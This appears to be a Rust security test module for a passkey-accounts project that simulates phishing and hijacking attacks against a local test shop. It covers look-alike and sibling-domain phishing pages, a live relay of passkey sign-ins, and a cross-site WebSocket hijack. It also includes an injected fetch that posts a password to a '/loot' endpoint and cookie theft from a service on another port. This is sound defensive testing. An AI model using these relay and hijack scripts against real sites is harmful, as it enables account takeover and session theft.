//! Pages that are not the site's.

use passkey_accounts::protocol::gateway::ServerMessage;
use passkey_accounts_tests::{
    TlsFront,
    chromium::{Chromium, Page},
    raw::Identity,
    shop::{Carried, Shop},
};
use serde_json::{Value, json};

use super::{
    ADA, Outcome, THEFT, acted, attack, fell, held, is_ours,
    mallory::{Mallory, Victim, give},
};

#[tokio::test]
async fn a_look_alike_asks_for_what_the_site_asks_for() {
    // Each has a certificate of its own, and the browser takes both for good.
    let (identity, own) = (Identity::make(), Identity::make());
    let browser = Chromium::launch_trusting(&[&identity, &own], None).await.unwrap();
    attack("lookAlike", async |build| {
        let shop = Shop::open_over_tls(build, &identity).await;
        let mallory = Mallory::start(FORM, "").await;
        let front = TlsFront::start(mallory.address(), &own).await;
        let origin = format!("https://{}:{}", shop.host.replace("shop", "sh0p"), front.port);
        phish(&browser, &shop, mallory, &origin).await
    })
    .await;
}

#[tokio::test]
async fn a_sibling_of_the_site_asks_for_what_the_site_asks_for() {
    let browser = Chromium::launch().await.unwrap();
    attack("sibling", async |build| {
        let shop = Shop::open(build).await;
        let mallory = Mallory::start(FORM, "").await;
        let origin = mallory.origin(&format!("blog.{}", shop.host));
        phish(&browser, &shop, mallory, &origin).await
    })
    .await;
}

#[tokio::test]
async fn another_port_of_the_host_asks_for_what_the_site_asks_for() {
    let browser = Chromium::launch().await.unwrap();
    attack("otherPort", async |build| {
        let shop = Shop::open(build).await;
        let mallory = Mallory::start(FORM, "").await;
        let origin = mallory.origin(&shop.host);
        phish(&browser, &shop, mallory, &origin).await
    })
    .await;
}

/// Relays a sign-in live: the attacker's connection to the shop asks, the person's browser answers on the attacker's page,
/// which is at `origin`, and the answer is handed in on the attacker's connection, which names any origin it likes.
pub(super) async fn phish(browser: &Chromium, shop: &Shop, mut mallory: Mallory, origin: &str) -> Outcome {
    let victim = Victim::sign_up(browser, shop).await;
    let credentials = victim.credentials().await;
    let page = match browser.open(origin).await {
        Ok(page) => page,
        Err(error) => {
            // Which one depends on how a server without TLS hangs up on who speaks it.
            assert!(error.to_string().contains("net::ERR_"), "{error:#}");
            return held("the browser does not go there without TLS");
        }
    };
    give(&page, &credentials).await;
    if !shop.build.has_passkeys() {
        let typed = "fetch('/loot', { method: 'POST', body: JSON.stringify({ password: 'sunshine' }) }).then(() => 0)";
        page.evaluate(typed).await.unwrap();
        let loot = mallory.loot().await;
        let given = json!({ "email": ADA, "password": loot["password"] });
        let answer = shop.post("/sign-in", &given).await;
        shop.send(&shop.carrying(&shop.carried(&answer), "/act", THEFT)).await;
        return acted(shop, &victim.name, "the password was entered", answer.status.to_string());
    }
    let (stolen, said) = if is_ours(shop.build) {
        let mut thief = shop.connect_page().await;
        let ceremony = thief.begin_sign_in(ADA).await;
        let credential = match ask(&page, &serde_json::from_str(&ceremony.public_key.0).unwrap()).await {
            Ok(credential) => credential,
            Err(refused) => return held(refused),
        };
        match thief.finish(&ceremony, credential.to_string()).await {
            ServerMessage::SignedIn(signed_in) => {
                (Carried::Page(Box::new(thief), signed_in.session), "signed in".to_owned())
            }
            ServerMessage::Error(failure) => (Carried::Nothing, failure.code),
            other => panic!("{other:?}"),
        }
    } else {
        let asked = shop.begin(ADA).await;
        let credential = match ask(&page, &asked["publicKey"]).await {
            Ok(credential) => credential,
            Err(refused) => return held(refused),
        };
        let answer = json!({ "email": ADA, "ceremony": asked["ceremony"], "credential": credential });
        let answer = shop.post("/passkey/get", &answer).await;
        (shop.carried(&answer), answer.status.to_string())
    };
    shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
    acted(shop, &victim.name, "the passkey's answer was relayed", said)
}

/// Has a page ask the browser for a passkey.
pub(super) async fn ask(page: &Page, options: &Value) -> Result<Value, String> {
    if page.evaluate("navigator.credentials === undefined").await.unwrap() == true {
        return Err("the browser: navigator.credentials is undefined".to_owned());
    }
    let script = format!(
        "navigator.credentials.get({{ publicKey: PublicKeyCredential.parseRequestOptionsFromJSON({options}) }})
            .then((credential) => ({{ credential: credential.toJSON() }}), ({{ name }}) => ({{ name }}))"
    );
    let answer = page.evaluate(&script).await.unwrap();
    match answer["name"].as_str() {
        Some(name) => Err(format!("the browser: {name}")),
        None => Ok(answer["credential"].clone()),
    }
}

#[tokio::test]
async fn a_page_of_another_site_opens_the_browser_socket() {
    let browser = Chromium::launch().await.unwrap();
    attack("foreignSocket", async |build| {
        let shop = Shop::open(build).await;
        hijack(&browser, &shop, |mallory| mallory.origin("mallory.localhost")).await
    })
    .await;
}

#[tokio::test]
async fn a_sibling_of_the_site_opens_the_browser_socket() {
    let browser = Chromium::launch().await.unwrap();
    attack("siblingSocket", async |build| {
        let shop = Shop::open(build).await;
        hijack(&browser, &shop, |mallory| mallory.origin(&format!("blog.{}", shop.host))).await
    })
    .await;
}

/// A page in the browser of somebody who is signed in opens the site's socket, and acts over it: the browser adds the cookies
/// to the handshake that it adds to any request.
pub(super) async fn hijack(browser: &Chromium, shop: &Shop, origin: impl Fn(&Mallory) -> String) -> Outcome {
    let victim = Victim::sign_up(browser, shop).await;
    let mallory = Mallory::start("", "").await;
    let page = browser.open(&origin(&mallory)).await.unwrap();
    let (address, subprotocol) = match &shop.auth {
        Some(auth) => (format!("{}?app={}", shop.socket_url, auth.app_id), "'passkey-accounts.v1'"),
        None => (shop.socket_url.clone(), "[]"),
    };
    let script = format!(
        "new Promise((resolve) => {{
            const socket = new WebSocket('{address}', {subprotocol});
            socket.addEventListener('open', () => {{ socket.send('{THEFT}'); socket.send('{THEFT}') }});
            socket.addEventListener('message', ({{ data }}) => resolve(data));
            socket.addEventListener('close', () => resolve('closed'));
        }})"
    );
    let said = page.evaluate(&script).await.unwrap();
    let said = said.as_str().unwrap();
    if is_ours(shop.build) && said != "closed" {
        return fell("the server greets it");
    }
    acted(shop, &victim.name, "the handshake carried the cookie", said)
}

#[tokio::test]
async fn another_service_on_the_same_host_is_sent_what_the_site_is_sent() {
    let browser = Chromium::launch().await.unwrap();
    attack("neighbour", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", "").await;
        let page = browser.open(&mallory.origin(&shop.host)).await.unwrap();
        page.evaluate("fetch('/headers', { method: 'POST' }).then(() => 0)").await.unwrap();
        let headers = mallory.loot().await;
        let Some((_, token)) = headers["cookie"].as_str().and_then(|cookie| cookie.split_once('=')) else {
            return held("the request says nothing of who asks");
        };
        shop.send(&shop.carrying(&Carried::Token(token.to_owned()), "/act", THEFT)).await;
        acted(&shop, &victim.name, "cookies do not tell ports apart", "of no use")
    })
    .await;
}

/// The page of whoever wants a sign-in.
pub(super) const FORM: &str = "<title>Shop</title><form><input id=password></form>";
